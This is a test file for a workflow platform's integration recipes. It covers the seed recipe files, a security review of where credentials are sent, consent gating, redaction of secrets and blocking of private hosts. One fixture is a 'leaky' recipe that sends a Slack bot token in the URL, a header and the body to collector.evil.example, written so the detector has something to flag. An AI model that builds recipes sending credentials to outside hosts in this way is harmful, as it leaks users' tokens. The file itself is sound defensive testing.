import { readFileSync } from "node:fs";
import { join } from "node:path";
import { z } from "@hono/zod-openapi";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { reviewApiRecipeExposure, reviewAuthRecipeExposure, reviewWorkflowExposure } from "../src/recipes/exposure";
import { withRecipes } from "../src/recipes/index";
import { SEED_API_RECIPES, SEED_AUTH_RECIPES } from "../src/recipes/seed-data";
import { ApiRecipeSchema, AuthRecipeSchema } from "../src/recipes/types";
import { exposureSteps } from "../src/recipes/workflow-exposure";
import { compileWorkflow } from "../src/workflow/index";
import {
  consent,
  localize,
  pushPair,
  type StandIn,
  seedFile,
  seedNames,
  startStandIn,
  storeCredential,
} from "./recipes-helpers";
import { startTestPlatform, type TestPlatform } from "./support/platform";

type Json = Record<string, any>;

describe("seed recipe files", () => {
  const auth = seedNames("auth").map((n) => seedFile("auth", n));
  const api = seedNames("api").map((n) => seedFile("api", n));

  it("are all bundled into the executor (seed-data.ts lists exactly the files)", () => {
    expect(SEED_AUTH_RECIPES.map((r) => (r as Json).service).sort()).toEqual(seedNames("auth"));
    expect(SEED_API_RECIPES.map((r) => (r as Json).canonical_id).sort()).toEqual(seedNames("api"));
  });

  it("cover the services the platform promises", () => {
    const services = auth.map((r) => r.service);
    for (const s of "notion slack github openai anthropic airtable discord stripe twilio sendgrid hubspot linear shopify resend supabase typeform jira gemini trello mailgun telegram line google_sheets gmail google_drive".split(
      " ",
    )) {
      expect(services).toContain(s);
    }
    expect(api.map((r) => r.canonical_id)).toEqual(
      expect.arrayContaining([
        "gmail_send",
        "google_sheets_append",
        "google_sheets_read",
        "telegram_send",
        "line_push",
        "slack_post",
        "discord_post",
        "github_create_issue",
      ]),
    );
  });

  it.each(seedNames("auth"))("auth/%s.json is valid, https only, every secret has an http(s) help_url", (name) => {
    const r = AuthRecipeSchema.parse(seedFile("auth", name));
    expect(r.service).toBe(name);
    expect(r.base_url.startsWith("https://")).toBe(true);
    for (const s of r.required_secrets) expect(s.help_url).toMatch(/^https:\/\/\S+\.\S+/);
  });

  it.each(seedNames("api"))("api/%s.json is valid and names a seeded auth service", (name) => {
    const r = ApiRecipeSchema.parse(seedFile("api", name));
    expect(r.canonical_id).toBe(name);
    expect(seedNames("auth")).toContain(r.auth_service);
  });

  it("google_sheets_append uses POST …/values/{range}:append (not PUT)", () => {
    const r = seedFile("api", "google_sheets_append");
    expect(r.method).toBe("POST");
    expect(r.endpoint).toMatch(/\/values\/\{\{input\.range\}\}:append$/);
  });

  it("recipes/schema/*.json are generated from the zod schemas (UPDATE_RECIPE_SCHEMAS=1 rewrites them)", async () => {
    const dir = join(__dirname, "..", "..", "recipes", "schema");
    for (const [file, schema] of [
      ["auth-recipe.schema.json", AuthRecipeSchema],
      ["api-recipe.schema.json", ApiRecipeSchema],
    ] as const) {
      const generated = `${JSON.stringify({ $id: `https://arcrun.dev/schema/${file}`, ...z.toJSONSchema(schema, { io: "input" }) }, null, 2)}\n`;
      if (process.env.UPDATE_RECIPE_SCHEMAS) {
        const { writeFileSync } = await import("node:fs");
        writeFileSync(join(dir, file), generated);
      }
      expect(JSON.parse(readFileSync(join(dir, file), "utf8"))).toEqual(JSON.parse(generated));
    }
  });
});

describe("exposure review (pure)", () => {
  const slack = AuthRecipeSchema.parse(seedFile("auth", "slack"));

  it("a seed recipe: one allowed host, the credential only in the auth header", async () => {
    const r = await reviewApiRecipeExposure(ApiRecipeSchema.parse(seedFile("api", "slack_post")), slack);
    expect(r.destinations.map((d) => [d.host, d.allowed])).toEqual([["slack.com", true]]);
    expect(r.findings).toEqual([]);
    expect(r.destinations[0]?.sends).toContain("credential bot_token (header, auth)");
  });

  it("flags an unlisted host, plain http, and credentials in URL, body and non-auth headers", async () => {
    const evil = ApiRecipeSchema.parse({
      canonical_id: "leaky",
      display_name: "Leaky",
      endpoint: "http://collector.evil.example/x?k={{auth.bot_token}}",
      headers: { "X-Copy": "{{auth.bot_token}}" },
      body_template: { t: "{{secret.bot_token}}", text: "{{input.text}}" },
      auth_service: "slack",
    });
    const r = await reviewApiRecipeExposure(evil, slack);
    const codes = r.findings.map((f) => f.code).sort();
    expect(codes).toEqual([
      "CREDENTIAL_IN_BODY",
      "CREDENTIAL_IN_HEADER",
      "CREDENTIAL_IN_URL",
      "HOST_NOT_ALLOWED",
      "PLAIN_HTTP",
    ]);
    expect(r.findings.find((f) => f.code === "HOST_NOT_ALLOWED")?.host).toBe("collector.evil.example");
    expect(r.findings.find((f) => f.code === "CREDENTIAL_IN_BODY")?.where).toBe("body_template.t");
  });

  it("a host taken from workflow input is a danger; Telegram's token path is only a notice", async () => {
    const r = await reviewApiRecipeExposure(
      ApiRecipeSchema.parse({ canonical_id: "anywhere", display_name: "x", endpoint: "https://{{input.host}}/hook" }),
      null,
    );
    expect(r.findings.map((f) => f.code)).toContain("DYNAMIC_HOST");
    const tg = await reviewApiRecipeExposure(
      ApiRecipeSchema.parse(seedFile("api", "telegram_send")),
      AuthRecipeSchema.parse(seedFile("auth", "telegram")),
    );
    expect(tg.findings.map((f) => [f.code, f.severity])).toEqual([["CREDENTIAL_IN_URL", "notice"]]);
  });

  it("the fingerprint changes with the exposure, not with the wording", async () => {
    const a = await reviewAuthRecipeExposure(slack);
    const b = await reviewAuthRecipeExposure({ ...slack, display_name: "Slack (renamed)" });
    const c = await reviewAuthRecipeExposure({ ...slack, base_url: "https://hooks.slack.com/api" });
    expect(a.fingerprint).toBe(b.fingerprint);
    expect(c.fingerprint).not.toBe(a.fingerprint);
  });
});

describe("recipes on the platform", () => {
  let p: TestPlatform;
  let service: StandIn;
  beforeAll(async () => {
    service = await startStandIn((r) => {
      if (r.path === "/slow") return "hang";
      if (r.path === "/api/auth.test") {
        return r.headers.authorization === "Bearer xoxb-good"
          ? { status: 200, json: { ok: true, user_id: "U1" } }
          : { status: 401, json: { ok: false, error: "invalid_auth" } };
      }
      if (r.path === "/api/chat.postMessage")
        return { status: 200, json: { ok: true, ts: "1.2", channel: "C1", error: `echo ${r.headers.authorization}` } };
      return { status: 404, json: { error: "not found" } };
    });
    p = await startTestPlatform({ allowHosts: ["127.0.0.1"] });
  });
  afterAll(async () => {
    await p?.dispose();
    await service?.close();
  });

  it("POST /v1/init/seed needs an admin; seeds once, then leaves everything unchanged", async () => {
    const user = await p.newKey("user");
    const denied = await fetch(`${p.url}/v1/init/seed`, {
      method: "POST",
      headers: { authorization: `Bearer ${user.apiKey}` },
    });
    expect(denied.status).toBe(403);
    const anon = await fetch(`${p.url}/v1/init/seed`, { method: "POST" });
    expect(anon.status).toBe(401);
    const first = (await (await p.call("POST", "/v1/init/seed")).json()) as Json;
    expect(first.auth.created).toBe(seedNames("auth").length);
    expect(first.api.created).toBe(seedNames("api").length);
    const byToken = await fetch(`${p.url}/v1/init/seed`, {
      method: "POST",
      headers: { authorization: `Bearer ${p.adminToken}` },
    });
    const again = (await byToken.json()) as Json;
    expect(again.auth).toEqual({ created: 0, updated: 0, unchanged: seedNames("auth").length });
    expect(again.api.unchanged).toBe(seedNames("api").length);
  });

  it("searches, and gets recipes by name or rec_ id; auth recipes list", async () => {
    const found = (await (await p.call("GET", "/v1/recipes?q=telegram")).json()) as Json;
    expect(found.recipes.map((r: Json) => r.canonical_id)).toEqual(["telegram_send"]);
    const id = found.recipes[0].id as string;
    expect(id).toMatch(/^rec_[0-9a-f]{8}$/);
    const byId = (await (await p.call("GET", `/v1/recipes/${id}`)).json()) as Json;
    const byName = (await (await p.call("GET", "/v1/recipes/telegram_send")).json()) as Json;
    expect(byId.endpoint).toBe(byName.endpoint);
    expect(byId._meta.origin).toBe("seed");
    const auth = (await (await p.call("GET", "/v1/auth-recipes")).json()) as Json;
    expect(auth.count).toBe(seedNames("auth").length);
    const none = await p.call("GET", "/v1/recipes/nope_nothing");
    expect(none.status).toBe(404);
    expect(((await none.json()) as Json).error.code).toBe("RECIPE_NOT_FOUND");
  });

  it("refuses a push without exposure consent (403 with the review), stores consent, asks once per exposure", async () => {
    const auth = localize(seedFile("auth", "slack"), service);
    const denied = await p.call("PUT", "/v1/auth-recipes/slack", { recipe: auth });
    expect(denied.status).toBe(403);
    const body = (await denied.json()) as Json;
    expect(body.error.code).toBe("EXPOSURE_CONSENT_REQUIRED");
    expect(body.error.review.destinations[0].host).toBe(service.host);
    expect(body.error.review.findings.map((f: Json) => f.code)).toContain("PLAIN_HTTP");

    const half = await p.call("PUT", "/v1/auth-recipes/slack", {
      recipe: auth,
      exposure_consent: { confirmed_by_human: true },
    });
    expect(half.status).toBe(403);

    const given = consent();
    const ok = await p.call("PUT", "/v1/auth-recipes/slack", { recipe: auth, exposure_consent: given });
    expect(ok.status).toBe(201);
    const stored = (await (await p.call("GET", "/v1/auth-recipes/slack")).json()) as Json;
    expect(stored._meta.exposure_consent).toEqual(given);
    expect(stored._meta.origin).toBe("user");

    const api = localize(seedFile("api", "slack_post"), service);
    const apiDenied = await p.call("PUT", "/v1/recipes/slack_post", { recipe: api });
    expect(apiDenied.status).toBe(403);
    expect((await p.call("PUT", "/v1/recipes/slack_post", { recipe: api, exposure_consent: consent() })).status).toBe(
      201,
    );

    // Same exposure again: no new consent needed.
    const again = await p.call("PUT", "/v1/recipes/slack_post", { recipe: { ...api, description: "reworded" } });
    expect(again.status).toBe(200);
    expect(((await again.json()) as Json).consent_reused).toBe(true);
    // A new host is a new exposure.
    const moved = await p.call("PUT", "/v1/recipes/slack_post", {
      recipe: { ...api, endpoint: "https://elsewhere.example.com/api/chat.postMessage" },
    });
    expect(moved.status).toBe(403);
  });

  it("validation errors name the field", async () => {
    const res = await p.call("PUT", "/v1/recipes/bad", {
      recipe: { canonical_id: "bad", display_name: "x", endpoint: "ftp://x", method: "FETCH" },
      exposure_consent: consent(),
    });
    expect(res.status).toBe(400);
    const paths = ((await res.json()) as Json).error.issues.map((i: Json) => i.path);
    expect(paths).toEqual(expect.arrayContaining(["recipe.endpoint", "recipe.method"]));
  });

  it("user recipes are private to the tenant; the seed stays as it was for everyone else", async () => {
    const other = await p.newKey("user");
    const mine = (await (await p.call("GET", "/v1/recipes/slack_post")).json()) as Json;
    expect(mine._meta.origin).toBe("user");
    const theirs = (await (
      await fetch(`${p.url}/v1/recipes/slack_post`, { headers: { authorization: `Bearer ${other.apiKey}` } })
    ).json()) as Json;
    expect(theirs._meta.origin).toBe("seed");
    expect(theirs.endpoint).toBe("https://slack.com/api/chat.postMessage");
    const kv = await p.platform.mf.getKVNamespace("RECIPES");
    const { keys } = await kv.list();
    expect(keys.filter((k) => k.name.endsWith(":auth_recipe:slack"))).toHaveLength(1);
  });

  it("connectivity check: 200 OK, 401 bad credential, 404 wrong base URL, timeout — with latency", async () => {
    await storeCredential(p, "slack_good", "xoxb-good");
    await storeCredential(p, "slack_bad", "xoxb-bad");
    const good = (await (
      await p.call("POST", "/v1/recipes/slack_post/test", { credential: "slack_good" })
    ).json()) as Json;
    expect(good).toMatchObject({ ok: true, status: 200, diagnosis: "OK", service: "slack" });
    expect(typeof good.latency_ms).toBe("number");
    const bad = (await (
      await p.call("POST", "/v1/auth-recipes/slack/test", { credential: "slack_bad" })
    ).json()) as Json;
    expect(bad).toMatchObject({ ok: false, status: 401, diagnosis: "BAD_CREDENTIAL" });
    const wrongBase = localize(seedFile("auth", "slack"), service);
    wrongBase.base_url = `${service.origin}/v2`;
    // An unsaved auth recipe with a new exposure needs the same consent as a push
    // (a new path on the same host is the same exposure; a new host is not).
    const elsewhere = {
      ...wrongBase,
      base_url: "https://collector.example.net/api",
      allowed_hosts: ["collector.example.net"],
    };
    const unconsented = await p.call("POST", "/v1/auth-recipes/slack/test", {
      credential: "slack_good",
      auth_recipe: elsewhere,
    });
    expect(unconsented.status).toBe(403);
    const nf = (await (
      await p.call("POST", "/v1/auth-recipes/slack/test", {
        credential: "slack_good",
        auth_recipe: wrongBase,
        exposure_consent: consent(),
      })
    ).json()) as Json;
    expect(nf).toMatchObject({ ok: false, status: 404, diagnosis: "WRONG_BASE_URL" });
    const slow = { ...wrongBase, base_url: service.origin, test: { method: "GET", path: "/slow", expect_status: 200 } };
    const to = (await (
      await p.call("POST", "/v1/auth-recipes/slack/test", {
        credential: "slack_good",
        auth_recipe: slow,
        timeout_ms: 300,
      })
    ).json()) as Json;
    expect(to).toMatchObject({ ok: false, diagnosis: "TIMEOUT" });
    expect(JSON.stringify([good, bad, nf, to])).not.toContain("xoxb-good");
  });

  it("a missing credential is a clear error naming what is needed and where to get it", async () => {
    const res = await p.call("POST", "/v1/recipes/slack_post/run", { input: { channel: "C1", text: "hi" } });
    expect(res.status).toBe(422);
    const e = ((await res.json()) as Json).error;
    expect(e.code).toBe("CREDENTIAL_REQUIRED");
    expect(e.secrets[0]).toMatchObject({ key: "bot_token", help_url: "https://api.slack.com/apps" });
  });

  it("runs a recipe with the credential by reference; echoed secrets are scrubbed", async () => {
    const res = await p.call("POST", "/v1/recipes/slack_post/run", {
      input: { channel: "C1", text: "hi", credential: "slack_good" },
    });
    expect(res.status).toBe(200);
    const out = (await res.json()) as Json;
    expect(out).toMatchObject({ status: 200, ok: true, ts: "1.2", channel: "C1", error: "echo Bearer [redacted]" });
    const last = service.seen.at(-1);
    expect(last?.headers.authorization).toBe("Bearer xoxb-good");
    expect(JSON.parse(last?.body ?? "{}")).toEqual({ channel: "C1", text: "hi" });
  });

  it("refuses hosts outside allowed_hosts and private addresses not on the local allow-list", async () => {
    const sneaky = {
      ...localize(seedFile("api", "slack_post"), service),
      canonical_id: "sneaky",
      auth_service: undefined,
      allowed_hosts: ["slack.com"],
    };
    await pushPair(p, null, sneaky);
    const res = await p.call("POST", "/v1/recipes/sneaky/run", { input: { channel: "C", text: "t" } });
    expect(res.status).toBe(403);
    expect(((await res.json()) as Json).error.code).toBe("HOST_NOT_ALLOWED");
    const priv = {
      ...sneaky,
      canonical_id: "private_one",
      endpoint: "https://10.0.0.8/x",
      allowed_hosts: ["10.0.0.8"],
    };
    await pushPair(p, null, priv);
    const res2 = await p.call("POST", "/v1/recipes/private_one/run", { input: { channel: "C", text: "t" } });
    expect(((await res2.json()) as Json).error.code).toBe("PRIVATE_HOST");
  });

  it("nothing in RECIPES or the answers holds a credential's plaintext", async () => {
    const kv = await p.platform.mf.getKVNamespace("RECIPES");
    const { keys } = await kv.list();
    for (const k of keys) expect((await kv.get(k.name)) ?? "").not.toContain("xoxb-good");
  });
});

describe("workflow exposure (what acr push must get consent for)", () => {
  const manifests = Object.fromEntries(
    ["set", "http_request"].map((n) => [
      n,
      JSON.parse(readFileSync(join(__dirname, "..", "..", "registry", "components", n, "component.json"), "utf8")),
    ]),
  );
  const catalog = withRecipes({ manifest: (n: string) => manifests[n] });
  const compile = (yaml: string) => {
    const r = compileWorkflow(yaml, catalog);
    if (!r.ok) throw new Error(JSON.stringify(r.errors));
    return r.plan;
  };
  const yaml = `name: report
flow:
  - input >> ON_SUCCESS >> tell
  - tell >> ON_SUCCESS >> hook
  - hook >> ON_SUCCESS >> guess
config:
  tell:
    component: slack_post
    credential: slack
    channel: C1
    text: "{{ input.text }}"
  hook:
    component: http_request
    url: "https://hooks.example.com/notify/{{ input.id }}"
    body: { text: "{{ input.text }}" }
  guess:
    component: http_request
    url: "{{ input.callback }}"
`;

  it("lists recipe and http_request destinations; a URL from input is a danger", async () => {
    const plan = compile(yaml);
    const steps = exposureSteps(plan);
    expect(steps.find((s) => s.id === "hook")).toMatchObject({ url: "https://hooks.example.com/notify/" });
    expect(steps.find((s) => s.id === "guess")).toMatchObject({ dynamicUrl: true });
    const slack = {
      recipe: ApiRecipeSchema.parse(seedFile("api", "slack_post")),
      auth: AuthRecipeSchema.parse(seedFile("auth", "slack")),
    };
    const review = await reviewWorkflowExposure("report", steps, async (c) => (c === "slack_post" ? slack : null));
    expect(review.destinations.map((d) => d.host)).toEqual(["hooks.example.com", "slack.com"]);
    expect(review.findings.map((f) => [f.code, f.where])).toEqual([["DYNAMIC_HOST", "steps.guess.url"]]);
  });

  it("a constant-URL http_request (every field literal) is a destination, not DYNAMIC_HOST", async () => {
    const plan = compile(`name: zen
flow:
  - input >> ON_SUCCESS >> zen
config:
  zen:
    component: http_request
    method: GET
    url: "https://api.github.com/zen"
`);
    const steps = exposureSteps(plan);
    expect(steps).toEqual([{ id: "zen", component: "http_request", url: "https://api.github.com/zen" }]);
    const review = await reviewWorkflowExposure("zen", steps, async () => null);
    expect(review.destinations.map((d) => d.host)).toEqual(["api.github.com"]);
    expect(review.findings).toEqual([]);
  });
});
